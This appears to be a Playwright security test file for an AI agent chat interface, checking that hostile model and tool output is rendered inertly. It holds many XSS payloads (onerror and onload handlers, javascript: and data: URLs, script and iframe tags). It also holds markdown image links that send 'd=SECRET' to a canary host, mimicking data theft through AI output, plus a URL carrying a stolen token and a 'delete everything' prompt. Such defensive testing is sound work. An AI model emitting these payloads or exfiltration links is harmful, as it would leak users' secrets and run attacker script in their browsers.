import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { answer, text, tool } from '@tabwright/testkit'
import { card, expect, idle, startSession, test } from './fixtures'

/** Counts who comes, and lets everybody in. */
async function canaryHost(): Promise<{ readonly url: string; readonly seen: readonly string[]; close(): Promise<void> }> {
  const seen: string[] = []
  const server = createServer((request, response) => {
    seen.push(request.url ?? '')
    response.writeHead(200, { 'Access-Control-Allow-Origin': '*' }).end()
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const { port } = server.address() as AddressInfo
  return { url: `http://127.0.0.1:${port}`, seen, close: () => new Promise((resolve) => server.close(() => resolve())) }
}

const hostile = (host: string): string => `Look:

![picture](${host}/image?d=SECRET)

![ref][r] [named](javascript:window.hurt=1) [data](data:text/html,<script>window.hurt=1</script>) <${host}/auto> ${host}/bare

<img src="${host}/img?d=SECRET" onerror="window.hurt=1"> <svg onload="window.hurt=1"><image href="${host}/svg"/></svg>
<style>body{background:url(${host}/css)}</style><link rel="prefetch" href="${host}/prefetch"><iframe src="${host}/frame"></iframe>

| a | b |
| - | - |
| <img src=x onerror=window.hurt=1> | ![t](${host}/table) |

\`\`\`mermaid
graph TD; A["<img src=x onerror=window.hurt=1>"]
\`\`\`

\`\`\`html
<script>window.hurt=1</script>
\`\`\`

$\\href{javascript:window.hurt=1}{x}$

[r]: ${host}/reference?d=SECRET
`

test('[O24] [O25] what a model or a tool writes loads nothing, runs nothing and is no element of the page', async ({
  page,
  relay,
  model,
}) => {
  const host = await canaryHost()
  await page.addInitScript(() => {
    addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
      const broken: unknown = Reflect.get(globalThis, 'broken')
      Reflect.set(globalThis, 'broken', [...(Array.isArray(broken) ? broken : []), `${effectiveDirective} ${blockedURI}`])
    })
  })
  const markup = `<img src="${host.url}/tool" onerror="window.hurt=1">\u001b]8;;javascript:window.hurt=1\u0007link\u001b]8;;\u0007`
  model.setScript([
    answer([
      text(hostile(host.url)),
      tool('write_file', { path: '<img src=x onerror=window.hurt=1>.html', content: markup }),
      tool('shell', {
        command: 'cat *.html; printf "%s" "<svg onload=window.hurt=1>" >&2',
        purpose: `<img src="${host.url}/purpose" onerror="window.hurt=1">`,
      }),
    ]),
    answer([text('Shown.')]),
  ])
  try {
    await startSession(page, relay.url, 'show it')
    await expect(card(page)).toContainText('cat *.html')
    await page.waitForTimeout(600)
    await card(page).getByRole('button', { name: 'Allow once' }).click()
    const log = page.getByRole('log', { name: 'Conversation' })
    await expect(log).toContainText('Shown.')
    await idle(page)
    await page.getByRole('group', { name: 'Tool call: shell' }).getByRole('button').first().click()
    await page.getByRole('tab', { name: 'Changes' }).click()
    await expect(page.getByRole('region', { name: 'Changes' })).toContainText('onerror=window.hurt=1')
    // An image is told as one, with all of its address.
    await expect(log).toContainText(`${host.url}/image?d=SECRET`)
    // Long enough for a prefetch or a picture that somebody asked for.
    await page.waitForTimeout(1000)
    const state = await page.evaluate(() => ({
      hurt: Reflect.get(globalThis, 'hurt'),
      broken: Reflect.get(globalThis, 'broken'),
      handlers: [...document.querySelectorAll('*')].filter((element) => [...element.attributes].some(({ name }) => name.startsWith('on')))
        .length,
      written: document.querySelectorAll('[role="log"] :is(img, iframe, style, link, script, object, embed)').length,
      targets: [...document.querySelectorAll<HTMLAnchorElement>('[role="log"] a')].map(({ protocol }) => protocol),
    }))
    expect(state).toMatchObject({ hurt: undefined, broken: undefined, handlers: 0, written: 0 })
    expect(state.targets.filter((protocol) => !['http:', 'https:', 'mailto:'].includes(protocol))).toEqual([])
    expect(host.seen).toEqual([])
  } finally {
    await host.close()
  }
})

test('[O33] an address that names a relay, a token or a prompt connects nowhere and runs nothing', async ({ page, relay, model }) => {
  const host = await canaryHost()
  const socket = host.url.replace('http', 'ws')
  try {
    const words = `relay=${encodeURIComponent(socket)}&token=stolen&prompt=delete%20everything&autorun=1`
    for (const address of [`/?${words}`, `/#${words}`, `/s/?${words}`]) {
      await page.goto(`${relay.url}${address}`)
      await expect(page.getByRole('button', { name: 'New session' }).first()).toBeVisible()
      await page.waitForTimeout(500)
    }
    expect(model.requests).toHaveLength(0)
    expect(host.seen).toEqual([])
    await expect(page.getByRole('listitem')).toHaveCount(0)
  } finally {
    await host.close()
  }
})
